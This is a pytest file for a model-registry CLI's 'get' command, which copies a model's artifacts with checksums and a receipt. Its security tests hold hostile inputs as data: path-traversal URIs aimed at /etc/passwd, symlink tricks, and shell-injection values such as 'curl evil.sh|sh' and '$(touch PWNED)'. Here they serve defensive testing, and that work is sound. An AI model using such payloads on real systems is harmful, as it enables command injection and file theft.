"""mr get: a link's object and its artifacts into a folder, every byte checked, with a receipt."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from mr import api
from mr.errors import ArtifactsRefused, OutputExists, ReceiptError
from mr.model import RECEIPT
from mr.results import CheckResult, GetResult
from tests.conftest import GitDaemon
from tests.helpers import git

WEIGHTS = b"\x00weights\xff" * 40
VOCAB = b"alpha\nbeta\n"


def meta(
    artifacts: dict[str, tuple[str, bytes]], *, size: dict[str, int] | None = None, md5: dict[str, str] | None = None
) -> str:
    """A model meta as MLEM 0.4.14 writes it (sorted keys), its artifacts' md5 and size taken from the bytes."""
    lines = ["artifacts:"]
    for name, (uri, data) in sorted(artifacts.items()):
        lines += [
            f"  {name}:",
            f"    hash: {(md5 or {}).get(name) or hashlib.md5(data).hexdigest()}",
            f"    size: {(size or {}).get(name, len(data))}",
            f"    uri: {uri}",
        ]
    lines += [
        "call_orders:",
        "  predict:",
        "  - - model",
        "    - predict",
        "object_type: model",
        "processors:",
        "  model:",
        "    io:",
        "      type: pickle",
        "    type: callable",
        "requirements: []",
    ]
    return "\n".join(lines) + "\n"


def write_files(root: Path, files: dict[str, bytes | str | None]) -> None:
    for name, content in files.items():
        if content is None:
            continue
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)


def model_project(root: Path, files: dict[str, bytes | str | None] | None = None) -> Path:
    """A MLEM project with models/rf.mlem, whose artifact models/rf is WEIGHTS, one commit on main."""
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q", "-b", "main")
    base: dict[str, bytes | str | None] = {
        ".mlem.yaml": "",
        "models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS)}),
        "models/rf": WEIGHTS,
    }
    write_files(root, {**base, **(files or {})})
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "a model")
    return root


def link_and_commit(registry: Path, project: str, name: str = "churn", path: str = "models/rf") -> str:
    api.link(path, source_project=project, target=name, target_project=str(registry))
    git(registry, "add", "-A")
    git(registry, "commit", "-q", "-m", f"link {name}")
    return git(registry, "rev-parse", "HEAD")


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".mr-get-" in p.name or ".mr-old-" in p.name)


@pytest.fixture
def model(tmp_path: Path) -> Path:
    return model_project(tmp_path / "models")


def test_get_writes_meta_artifact_and_receipt(registry: Path, model: Path, mr, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    stage_commit = link_and_commit(registry, "../models")
    sha = git(model, "rev-parse", "HEAD")
    out = tmp_path / "deploy" / "churn"
    r = mr("get", "churn", "--stage", "dev", "-o", str(out))
    assert r.code == 0, r.err
    assert sorted(os.listdir(out)) == [RECEIPT, "rf", "rf.mlem"]
    assert (out / "rf").read_bytes() == WEIGHTS
    assert (out / "rf.mlem").read_bytes() == (model / "models/rf.mlem").read_bytes()
    receipt = json.loads((out / RECEIPT).read_text())
    assert receipt["stage"] == "dev"
    assert receipt["stage_commit"] == stage_commit
    assert receipt["commit"] == sha
    assert receipt["project"] == "../models"
    assert receipt["rev"] == "main"
    assert receipt["name"] == "churn"
    assert receipt["path"] == "models/rf.mlem"
    assert receipt["meta"] == "rf.mlem"
    assert receipt["registry"] == str(registry)
    meta_bytes = (model / "models/rf.mlem").read_bytes()
    assert receipt["files"] == [
        {
            "path": "rf.mlem",
            "size": len(meta_bytes),
            "md5": hashlib.md5(meta_bytes).hexdigest(),
            "artifact": None,
            "source": "git",
        },
        {
            "path": "rf",
            "size": len(WEIGHTS),
            "md5": hashlib.md5(WEIGHTS).hexdigest(),
            "artifact": "data.pkl",
            "source": "git",
        },
    ]
    assert receipt["external"] == []
    assert leftovers(out.parent) == []


def test_json_is_the_receipt(registry: Path, model: Path, mr) -> None:  # type: ignore[no-untyped-def]
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "--json")
    assert r.code == 0, r.err
    assert json.loads(r.out) == json.loads((registry / "churn" / RECEIPT).read_text())


def test_api_get_and_check(registry: Path, model: Path, tmp_path: Path) -> None:
    link_and_commit(registry, "../models")
    result = api.get("churn", stage="dev", out=str(tmp_path / "out"))
    assert isinstance(result, GetResult)
    assert result.folder == str(tmp_path / "out")
    assert [f.path for f in result.files] == ["rf.mlem", "rf"]
    assert result.commit == git(model, "rev-parse", "HEAD")
    checked = api.check_get(str(tmp_path / "out"))
    assert isinstance(checked, CheckResult)
    assert checked.ok is True
    assert checked.checked == 2
    with pytest.raises(OutputExists):
        api.get("churn", stage="dev", out=str(tmp_path / "out"))
    again = api.get("churn", stage="dev", out=str(tmp_path / "out"), force=True)
    assert again.files == result.files
    assert leftovers(tmp_path) == []


def test_existing_folder_needs_force(registry: Path, model: Path, mr, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    assert mr("get", "churn", "-o", str(out)).code == 0
    r = mr("get", "churn", "-o", str(out))
    assert r.code == 1
    assert "pass --force" in r.err
    r = mr("get", "churn", "-o", str(out), "--force")
    assert r.code == 0, r.err
    assert sorted(os.listdir(out)) == [RECEIPT, "rf", "rf.mlem"]
    assert leftovers(tmp_path) == []


def test_layout_keeps_artifacts_outside_the_meta_folder(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    model_project(
        tmp_path / "models",
        {
            "models/rf.mlem": meta({"data.pkl": ("rf/weights.bin", WEIGHTS), "vocab": ("../shared/vocab.txt", VOCAB)}),
            "models/rf": None,
            "models/rf/weights.bin": WEIGHTS,
            "shared/vocab.txt": VOCAB,
        },
    )
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    r = mr("get", "churn", "-o", str(out), "--json")
    assert r.code == 0, r.err
    assert (out / "models/rf.mlem").is_file()
    assert (out / "models/rf/weights.bin").read_bytes() == WEIGHTS
    assert (out / "shared/vocab.txt").read_bytes() == VOCAB
    assert json.loads(r.out)["meta"] == "models/rf.mlem"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (WEIGHTS[:-1] + b"X", f"md5 {hashlib.md5(WEIGHTS[:-1] + b'X').hexdigest()} at"),  # same size, other bytes
        (WEIGHTS + b"more", f"is {len(WEIGHTS) + 4} bytes at"),
    ],
)
def test_corrupted_artifact_fails_and_leaves_nothing(  # type: ignore[no-untyped-def]
    registry: Path, tmp_path: Path, mr, content: bytes, expected: str
) -> None:
    model_project(tmp_path / "models", {"models/rf": content})  # the meta still records WEIGHTS
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    r = mr("get", "churn", "-o", str(out))
    assert r.code == 1
    lines = r.err.strip().splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("models/rf (artifact data.pkl)")
    assert expected in lines[0]
    assert lines[1] == f"mr: error: churn: nothing written to {out}"
    assert not os.path.lexists(out)
    assert leftovers(tmp_path) == []


def test_corrupted_artifact_keeps_the_old_folder_with_force(registry: Path, model: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    assert mr("get", "churn", "-o", str(out)).code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    write_files(model, {"models/rf": WEIGHTS[:-1] + b"X"})  # the meta still records WEIGHTS
    git(model, "commit", "-q", "-am", "corrupt")
    r = mr("get", "churn", "-o", str(out), "--force")
    assert r.code == 1
    assert "md5" in r.err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert leftovers(tmp_path) == []


def test_missing_artifact_fails(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    model_project(tmp_path / "models", {"models/rf.mlem": meta({"data.pkl": ("gone", WEIGHTS)})})
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    sha = git(tmp_path / "models", "rev-parse", "HEAD")
    assert r.err.splitlines()[0] == f"models/gone (artifact data.pkl) is missing at {sha[:12]}"
    assert not os.path.lexists(tmp_path / "out")


def test_lfs_pointer_is_reported_with_the_command(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    pointer = (
        "version https://git-lfs.github.com/spec/v1\n"
        "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 400\n"
    )
    model_project(tmp_path / "models", {"models/rf": pointer})
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    first = r.err.splitlines()[0]
    assert first.startswith("models/rf (artifact data.pkl) is a git-lfs pointer, not the file")
    assert first.endswith(" run: git lfs pull --include models/rf")
    assert not os.path.lexists(tmp_path / "out")


def test_s3_artifact_is_named_not_fetched(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    model_project(
        tmp_path / "models",
        {
            "models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "big": ("s3://bucket/models/big.bin", b"x" * 9)}),
        },
    )
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    r = mr("get", "churn", "-o", str(out))
    assert r.code == 0, r.err
    note = r.err.strip()
    assert note.startswith("mr: note: artifact big is not in git, not copied:")
    assert "MLEM loads it from s3://bucket/models/big.bin" in note
    assert note.endswith(f"to copy it: aws s3 cp s3://bucket/models/big.bin {out}/big.bin")
    receipt = json.loads((out / RECEIPT).read_text())
    assert [e["uri"] for e in receipt["external"]] == ["s3://bucket/models/big.bin"]
    assert [f["path"] for f in receipt["files"]] == ["rf.mlem", "rf"]


def test_dvc_outputs_without_dvc_support_are_reported_with_dvc_get(
    registry: Path,
    tmp_path: Path,
    mr,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("mr.dvcremote.have_extra", lambda: False)
    src = model_project(
        tmp_path / "models",
        {
            "models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "emb": ("emb.npy", b"e" * 5)}),
            "models/rf.dvc": "outs:\n- md5: 1\n  path: rf\n",
            "dvc.lock": "schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n    outs:\n    - path: models/emb.npy\n      md5: x\n",
        },
    )
    git(src, "rm", "-q", "--cached", "models/rf")
    git(src, "commit", "-q", "-m", "rf is tracked by dvc")
    sha = git(src, "rev-parse", "HEAD")
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    lines = r.err.splitlines()
    assert lines[0] == (
        "models/rf (artifact data.pkl) is kept in DVC: install mr's DVC support (pip install 'mr-registry[dvc]', "
        "or its libraries: pip install dvc-objects dvc-http) "
        f"and run mr get again, or fetch it with dvc get --rev {sha} -o {tmp_path / 'out'}/rf -- {src} models/rf"
    )
    assert lines[1].startswith("models/emb.npy (artifact emb) is kept in DVC: install mr's DVC support")
    assert lines[1].endswith(f"-o {tmp_path / 'out'}/emb.npy -- {src} models/emb.npy")
    assert not os.path.lexists(tmp_path / "out")


@pytest.mark.parametrize(
    ("uri", "reason"),
    [
        ("../../etc/passwd", "uri ../../etc/passwd refused: leaves the project with .."),
        ("/etc/passwd", "uri /etc/passwd refused: an absolute path"),
        ("file:///etc/passwd", "uri file:///etc/passwd refused: an absolute path"),
        ("../.git/config", "uri ../.git/config refused: it names git's own files"),
    ],
)
def test_hostile_uris_are_refused(registry: Path, tmp_path: Path, mr, uri: str, reason: str) -> None:  # type: ignore[no-untyped-def]
    model_project(tmp_path / "models", {"models/rf.mlem": meta({"data.pkl": (uri, b"root:x:0:0\n")})})
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    assert r.err.splitlines()[0].startswith(f"artifact data.pkl: {reason}")
    assert not os.path.lexists(tmp_path / "out")


def test_symlinks_and_submodules_in_the_source_tree_are_refused(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    src = model_project(
        tmp_path / "models",
        {
            "models/rf.mlem": meta(
                {
                    "a": ("etc/passwd", b"root:x:0:0\n"),  # through a symlinked folder
                    "b": ("weights", WEIGHTS),  # itself a symlink
                    "c": ("sub/file", b"x"),  # inside a submodule
                }
            ),
        },
    )
    os.symlink("/etc", src / "models" / "etc")
    os.symlink("../outside", src / "models" / "weights")
    git(src, "add", "-A")
    git(src, "update-index", "--add", "--cacheinfo", f"160000,{git(src, 'rev-parse', 'HEAD')},models/sub")
    git(src, "commit", "-q", "-m", "links")
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    lines = r.err.splitlines()
    sha = git(src, "rev-parse", "HEAD")[:12]
    assert lines[0] == f"models/etc/passwd (artifact a) is refused: models/etc is a symlink (under models/etc) at {sha}"
    assert lines[1] == f"models/weights (artifact b) is refused: models/weights is a symlink at {sha}"
    assert lines[2] == f"models/sub/file (artifact c) is refused: models/sub is a submodule (under models/sub) at {sha}"
    assert not os.path.lexists(tmp_path / "out")


def test_interrupt_leaves_nothing(registry: Path, model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mr import blobs

    link_and_commit(registry, "../models")

    def interrupted(*args: object, **kwargs: object) -> tuple[int, str]:
        raise KeyboardInterrupt

    monkeypatch.setattr(blobs, "copy", interrupted)
    with pytest.raises(KeyboardInterrupt):
        api.get("churn", out=str(tmp_path / "out"))
    assert not os.path.lexists(tmp_path / "out")
    assert leftovers(tmp_path) == []


def test_artifacts_refused_carries_one_line_per_file(registry: Path, tmp_path: Path) -> None:
    model_project(tmp_path / "models", {"models/rf.mlem": meta({"a": ("gone1", b"1"), "b": ("gone2", b"2")})})
    link_and_commit(registry, "../models")
    with pytest.raises(ArtifactsRefused) as info:
        api.get("churn", out=str(tmp_path / "out"))
    assert [p.split(" ")[0] for p in info.value.problems] == ["models/gone1", "models/gone2"]


# --- --check --------------------------------------------------------------------------


def test_check_detects_changed_missing_and_extra(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    model_project(
        tmp_path / "models",
        {
            "models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "vocab": ("vocab.txt", VOCAB)}),
            "models/vocab.txt": VOCAB,
        },
    )
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    assert mr("get", "churn", "-o", str(out)).code == 0
    r = mr("get", "--check", str(out))
    assert (r.code, r.out) == (0, "ok: 3 files as the receipt records\n")

    (out / "rf").write_bytes(WEIGHTS[:-1] + b"Y")  # same size
    (out / "vocab.txt").unlink()
    (out / "extra.bin").write_bytes(b"new")
    os.symlink("/etc/passwd", out / "sneaky")
    r = mr("get", "--check", str(out))
    assert r.code == 1
    assert r.out.splitlines() == [
        "rf: changed",
        "vocab.txt: missing",
        "extra.bin: extra",
        "sneaky: extra",
        f"failed: 4 files differ from the receipt of {out}",
    ]
    checked = api.check_get(str(out))
    assert (checked.changed, checked.missing, checked.extra, checked.ok) == (
        ("rf",),
        ("vocab.txt",),
        ("extra.bin", "sneaky"),
        False,
    )


def test_check_does_not_follow_a_symlink_in_place_of_a_file(registry: Path, model: Path, tmp_path: Path) -> None:
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    api.get("churn", out=str(out))
    copy = tmp_path / "copy"
    copy.write_bytes(WEIGHTS)
    (out / "rf").unlink()
    os.symlink(copy, out / "rf")  # the same bytes, through a link
    assert api.check_get(str(out)).changed == ("rf",)


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ([{"path": "../outside", "size": 1, "md5": "0" * 32}], "path ../outside is refused"),
        ([{"path": "/etc/passwd", "size": 1, "md5": "0" * 32}], "path /etc/passwd is refused: an absolute path"),
        ([{"path": "a", "size": "1", "md5": "0" * 32}], "size is not a number of bytes"),
        ([{"path": "a", "size": 1, "md5": "nope"}], "md5 is not an md5"),
        ("everything", "files is not a list"),
    ],
)
def test_check_refuses_a_hostile_receipt(tmp_path: Path, mr, files: object, message: str) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "out"
    out.mkdir()
    (out / RECEIPT).write_text(json.dumps({"version": 1, "files": files}))
    with pytest.raises(ReceiptError) as info:
        api.check_get(str(out))
    assert message in info.value.message
    r = mr("get", "--check", str(out))
    assert r.code == 1
    assert message in r.err


def test_check_refuses_a_symlinked_receipt(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "elsewhere.json").write_text(json.dumps({"version": 1, "files": []}))
    os.symlink(tmp_path / "elsewhere.json", out / RECEIPT)
    with pytest.raises(ReceiptError) as info:
        api.check_get(str(out))
    assert "a symlink?" in info.value.message


def test_usage(mr, registry: Path) -> None:  # type: ignore[no-untyped-def]
    assert mr("get").code == 2
    r = mr("get", "churn", "--check", "x")
    assert r.code == 2
    assert "--check DIR goes alone" in r.err
    r = mr("get", "--check", "x", "--allow-local-projects")
    assert (r.code, r.err.splitlines()[-1]) == (2, "Error: --check DIR goes alone (with --json)")
    r = mr("get", "nope", "-o", "x")
    assert (r.code, r.err) == (1, "mr: error: nope.mlem: no such link\n")


# --- verify --artifacts -----------------------------------------------------------------


def test_verify_artifacts(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    src = model_project(tmp_path / "models")
    link_and_commit(registry, "../models")
    assert mr("verify", "--artifacts").code == 0
    (src / "models/rf").write_bytes(WEIGHTS + b"!")
    git(src, "commit", "-q", "-am", "retrained without saving the meta")
    sha = git(src, "rev-parse", "HEAD")
    assert mr("verify").code == 0  # the default stays as cheap as it was
    r = mr("verify", "--artifacts")
    assert r.code == 1
    assert r.out.splitlines()[0] == (
        f"churn.mlem:3: error: models/rf (artifact data.pkl) is {len(WEIGHTS) + 1} bytes at {sha[:12]}; "
        f"the meta records {len(WEIGHTS)}"
    )


# --- a remote source: only the needed blobs cross the wire ------------------------------------


def test_remote_get_fetches_only_the_blobs_it_writes(  # type: ignore[no-untyped-def]
    git_daemon: GitDaemon, registry: Path, tmp_path: Path, mr
) -> None:
    name = f"{tmp_path.name}-heavy"
    src = git_daemon.base / name
    mib = 1024 * 1024
    versions = [os.urandom(mib) for _ in range(6)]
    model_project(src, {"models/rf": versions[0], "models/rf.mlem": meta({"data.pkl": ("rf", versions[0])})})
    git(src, "tag", "v1")
    for data in versions[1:]:
        write_files(src, {"models/rf": data, "models/rf.mlem": meta({"data.pkl": ("rf", data)})})
        git(src, "commit", "-q", "-am", "retrain")
    git(src, "config", "uploadpack.allowFilter", "true")
    git(src, "config", "uploadpack.allowAnySHA1InWant", "true")
    link_and_commit(registry, git_daemon.url(name))

    out = tmp_path / "out"
    r = mr("get", "churn", "-o", str(out))
    assert r.code == 0, r.err
    assert (out / "rf").read_bytes() == versions[-1]
    cache = Path(os.environ["MR_CACHE_DIR"])
    cached = sum(f.stat().st_size for f in cache.rglob("*") if f.is_file())
    # one 1 MiB version of 6 (random bytes do not compress), plus commits, trees and the meta
    assert mib < cached < mib + 256 * 1024
    blobs_in_cache = [
        data
        for data in versions
        if subprocess.run(
            ["git", "cat-file", "-e", _oid(data)],
            cwd=next(cache.glob("projects/*.git")),
            capture_output=True,
            env=dict(os.environ, GIT_NO_LAZY_FETCH="1"),
        ).returncode
        == 0
    ]
    assert blobs_in_cache == [versions[-1]]

    # verify --artifacts on the cached source: the blob is there already, its size is read from it
    assert mr("verify", "--artifacts").code == 0


def _oid(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def test_verify_artifacts_checks_md5_of_blobs_it_fetched(  # type: ignore[no-untyped-def]
    git_daemon: GitDaemon, registry: Path, tmp_path: Path, mr
) -> None:
    name = f"{tmp_path.name}-md5"
    src = model_project(git_daemon.base / name)
    git(src, "config", "uploadpack.allowFilter", "true")
    git(src, "config", "uploadpack.allowAnySHA1InWant", "true")
    link_and_commit(registry, git_daemon.url(name))
    assert mr("verify", "--artifacts").code == 0

    (src / "models/rf").write_bytes(WEIGHTS[:-1] + b"Z")  # same size, other bytes
    git(src, "commit", "-q", "-am", "weights changed, meta not")
    sha = git(src, "rev-parse", "HEAD")
    r = mr("verify", "--artifacts")
    assert r.code == 1
    assert r.out.splitlines()[0] == (
        f"churn.mlem:3: error: models/rf (artifact data.pkl): md5 {hashlib.md5(WEIGHTS[:-1] + b'Z').hexdigest()} "
        f"at {sha[:12]}; the meta records {hashlib.md5(WEIGHTS).hexdigest()}"
    )
    # the blob is cached now: a second run says the same, without the network
    again = mr("verify", "--artifacts", "--offline")
    assert (again.code, again.out.splitlines()[0]) == (1, r.out.splitlines()[0])


def test_get_an_alias_reads_the_registry_at_the_stage(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    write_files(registry, {"models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS)}), "models/rf": WEIGHTS})
    api.link("models/rf", target="latest", target_project=str(registry))
    git(registry, "add", "-A")
    git(registry, "commit", "-q", "-m", "a model kept in the registry, and an alias to it")
    tip = git(registry, "rev-parse", "HEAD")
    (registry / "models/rf").write_bytes(b"uncommitted")  # the work tree is not what is copied
    r = mr("get", "latest", "--stage", "dev", "-o", str(tmp_path / "out"), "--json")
    assert r.code == 0, r.err
    receipt = json.loads(r.out)
    assert (receipt["project"], receipt["commit"], receipt["stage_commit"]) == (None, tip, tip)
    assert (tmp_path / "out" / "rf").read_bytes() == WEIGHTS


def test_a_source_outside_allowed_sources_is_refused(registry: Path, model: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    link_and_commit(registry, "../models")
    (registry / ".mr.yaml").write_text(
        "stages: [dev, staging, production]\nallowed_sources: [https://git.example.com/]\n"
    )
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    assert r.err.splitlines()[0] == (
        "churn.mlem:4: error: project ../models is not under allowed_sources (https://git.example.com/)"
    )
    assert not os.path.lexists(tmp_path / "out")


def test_every_hop_of_a_chain_is_held_to_allowed_sources(registry: Path, model: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    """registry -> models:hop -> other:hop -> models:rf: the middle hop leaves allowed_sources."""
    other = tmp_path / "other"
    hop = "link_type: model\nobject_type: link\npath: models/{path}\nproject: file://{project}\nrev: main\n"
    write_files(other, {".mlem.yaml": "", "models/hop.mlem": hop.format(path="rf.mlem", project=model)})
    git(other, "init", "-q", "-b", "main")
    git(other, "add", "-A")
    git(other, "commit", "-q", "-m", "a hop back")
    write_files(model, {"models/hop.mlem": hop.format(path="hop.mlem", project=other)})
    git(model, "add", "-A")
    git(model, "commit", "-q", "-m", "a hop out")
    (registry / "churn.mlem").write_text(hop.format(path="hop.mlem", project=model))
    (registry / ".mr.yaml").write_text(f"stages: [dev, staging, production]\nallowed_sources: ['file://{model}']\n")
    git(registry, "add", "-A")
    git(registry, "commit", "-q", "-m", "a chain through other")
    out = tmp_path / "out"
    for stage in ((), ("--stage", "dev")):
        r = mr("get", "churn", *stage, "-o", str(out))
        assert (r.code, r.out, r.err) == (
            1,
            "",
            f"mr: error: file://{model}@main:models/hop.mlem: project file://{other} "
            f"is not under allowed_sources (file://{model})\n",
        )
        assert not os.path.lexists(out) and leftovers(tmp_path) == []


def test_a_remote_registry_may_not_name_a_local_project(  # type: ignore[no-untyped-def]
    git_daemon: GitDaemon, registry: Path, model: Path, tmp_path: Path, mr
) -> None:
    """A link, or a hop of an alias's chain, in a --registry URL never makes get read a folder here."""
    link = "link_type: model\nobject_type: link\npath: {}\n"
    (registry / "churn.mlem").write_text(link.format(f"models/rf.mlem\nproject: {model}\nrev: main"))
    (registry / "cur.mlem").write_text(link.format("churn.mlem"))
    git(registry, "add", "-A")
    git(registry, "commit", "-q", "-m", "a link to a local project, and an alias to it")
    served = git_daemon.base / f"{tmp_path.name}-registry.git"
    git(registry, "clone", "-q", "--bare", str(registry), str(served))
    url = git_daemon.url(served.name)
    out = tmp_path / "out"
    refused = (
        "names the local project {}, but it came from a remote, which may not name paths on this machine "
        "(--allow-local-projects trusts it)\n"
    )
    for name, stage, what in (
        ("churn", (), "churn.mlem"),
        ("churn", ("--stage", "dev"), "dev:churn.mlem"),
        ("cur", (), ".:churn.mlem"),
        ("cur", ("--stage", "dev"), ".:churn.mlem"),
    ):
        r = mr("get", name, *stage, "--registry", url, "-o", str(out))
        assert (r.code, r.out, r.err) == (1, "", f"mr: error: {what} " + refused.format(model))
        assert not os.path.lexists(out) and leftovers(tmp_path) == []
    r = mr("get", "cur", "--stage", "dev", "--registry", url, "-o", str(out), "--allow-local-projects")
    assert r.code == 0, r.err
    assert (out / "rf").read_bytes() == WEIGHTS


# --- commands printed for copying are quoted: a hostile name stays one word --------------


def words_of(command: str, tmp_path: Path) -> list[str]:
    """The words a real shell makes of ``command`` (each printed on a line by a stand-in program)."""
    stand_in = tmp_path / "bin"
    stand_in.mkdir(exist_ok=True)
    for tool in ("git", "aws", "gsutil", "az", "curl", "dvc"):
        (stand_in / tool).write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
        (stand_in / tool).chmod(0o755)
    env = {"PATH": f"{stand_in}:/usr/bin:/bin", "HOME": str(tmp_path)}
    out = subprocess.run(["sh", "-c", command], cwd=tmp_path, env=env, capture_output=True, text=True, check=True)
    assert not (tmp_path / "PWNED").exists()
    return out.stdout.splitlines()


def test_an_lfs_pointer_named_to_break_out_of_quotes_is_one_word(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "4" * 64 + "\nsize 400\n"
    hostile = "models/q'; touch PWNED; '"
    model_project(
        tmp_path / "models", {"models/rf.mlem": meta({"data.pkl": ("q'; touch PWNED; '", WEIGHTS)}), hostile: pointer}
    )
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    command = r.err.splitlines()[0].split(" run: ", 1)[1]
    assert words_of(command, tmp_path) == ["lfs", "pull", "--include", hostile]


@pytest.mark.parametrize(
    ("uri", "tool"),
    [
        ("s3://b/x;curl evil.sh|sh", "aws"),
        ("https://h/x$(touch PWNED)`touch PWNED`", "curl"),
        ("gs://b/it's here", "gsutil"),
    ],
)
def test_an_external_artifact_uri_is_quoted(registry: Path, tmp_path: Path, mr, uri: str, tool: str) -> None:  # type: ignore[no-untyped-def]
    model_project(tmp_path / "models", {"models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "big": (uri, b"x" * 9)})})
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 0, r.err
    command = r.err.strip().split("to copy it: ", 1)[1]
    assert command.split()[0] == tool
    assert uri in words_of(command, tmp_path)


def test_a_name_with_a_control_character_prints_no_command(registry: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    model_project(
        tmp_path / "models",
        {"models/rf.mlem": meta({"data.pkl": ("rf", WEIGHTS), "big": ('"s3://b/x\\e]0;evil\\a"', b"x" * 9)})},
    )
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 0, r.err
    assert r.err.strip().endswith("to copy it: (a name in it holds control characters, so no command is printed)")
    assert "\x1b" not in r.err


def test_a_dvc_output_whose_path_looks_like_an_option_stays_a_path(
    registry: Path,
    tmp_path: Path,
    mr,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("mr.dvcremote.have_extra", lambda: False)
    src = model_project(
        tmp_path / "models",
        {
            "models/rf.mlem": meta({"data.pkl": ("-o $(touch PWNED)", WEIGHTS)}),
            "models/-o $(touch PWNED).dvc": "outs:\n- md5: 1\n  path: '-o $(touch PWNED)'\n",
        },
    )
    link_and_commit(registry, "../models")
    r = mr("get", "churn", "-o", str(tmp_path / "out"))
    assert r.code == 1
    command = r.err.splitlines()[0].split("fetch it with ", 1)[1]
    words = words_of(command, tmp_path)
    assert words[-3:] == ["--", str(src), "models/-o $(touch PWNED)"]


def test_check_json_lists_extra_files_by_their_real_names(registry: Path, model: Path, tmp_path: Path, mr) -> None:  # type: ignore[no-untyped-def]
    link_and_commit(registry, "../models")
    out = tmp_path / "out"
    assert mr("get", "churn", "-o", str(out)).code == 0
    (out / "a\x1b[31mred").write_text("x")
    (out / "tab\there").write_text("x")
    r = mr("get", "--check", str(out), "--json")
    assert r.code == 1
    assert json.loads(r.out)["extra"] == ["a\x1b[31mred", "tab\there"]
    assert "\x1b" not in r.out  # JSON escapes it
    text = mr("get", "--check", str(out))
    assert "a\\e[31mred: extra" in text.out and "\x1b" not in text.out


@pytest.mark.parametrize("errno_, cause", [(28, "No space left on device"), (30, "Read-only file system")])
def test_a_full_or_read_only_disk_names_the_file_and_leaves_nothing(  # type: ignore[no-untyped-def]
    registry: Path, model: Path, tmp_path: Path, mr, monkeypatch: pytest.MonkeyPatch, errno_: int, cause: str
) -> None:
    from mr import blobs

    link_and_commit(registry, "../models")
    real = blobs.copy

    def fills_the_disk(repo: str, oid: str, out, on_chunk=None):  # type: ignore[no-untyped-def]
        out.write(b"partial")
        raise OSError(errno_, cause)

    monkeypatch.setattr(blobs, "copy", fills_the_disk)
    out = tmp_path / "deploy" / "churn"
    r = mr("get", "churn", "--stage", "dev", "-o", str(out))
    assert (r.code, r.err) == (1, f"mr: error: {out}/rf: {cause}; nothing was written\n")
    assert not out.exists() and leftovers(out.parent) == []
    monkeypatch.setattr(blobs, "copy", real)
    assert mr("get", "churn", "--stage", "dev", "-o", str(out)).code == 0
